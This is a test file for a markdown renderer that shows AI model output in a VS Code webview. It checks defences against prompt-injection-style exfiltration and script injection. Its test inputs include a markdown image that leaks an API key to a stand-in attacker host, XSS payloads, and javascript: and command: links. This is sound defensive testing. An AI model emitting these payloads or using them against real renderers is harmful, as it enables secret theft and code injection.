import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { renderMarkdown } from '../../src/webview/markdown';

describe('renderMarkdown (model output)', () => {
  it('renders remote images as text, so nothing is fetched', () => {
    const html = renderMarkdown('see ![secret](https://attacker.example/?d=API_KEY) and ![x](//cdn.example/x.png)');
    assert.doesNotMatch(html, /<img/);
    assert.doesNotMatch(html, /attacker\.example/);
    assert.match(html, /\[image: secret\]/);
  });

  it('keeps inline data images', () => {
    assert.match(
      renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)'),
      /<img src="data:image\/png;base64,iVBORw0KGgo=" alt="dot">/,
    );
  });

  it('escapes raw HTML from the model', () => {
    const html = renderMarkdown('<img src=x onerror=alert(1)><script>alert(2)</script>');
    assert.doesNotMatch(html, /<img|<script/);
    assert.match(html, /&lt;script&gt;/);
  });

  it('neutralises javascript: and command: links', () => {
    assert.doesNotMatch(renderMarkdown('[a](javascript:alert(1))'), /href="javascript/);
    assert.doesNotMatch(renderMarkdown('[b](command:workbench.action.terminal.new)'), /href="command/);
    assert.match(renderMarkdown('[c](https://code.visualstudio.com)'), /href="https:\/\/code\.visualstudio\.com"/);
  });

  it('highlights fenced code with the language', () => {
    const html = renderMarkdown('```ts\nconst x: number = 1;\n```');
    assert.match(html, /<pre class="code-block" data-lang="ts"><code class="hljs">/);
    assert.match(html, /<span class="hljs-keyword">const<\/span>/);
  });
});
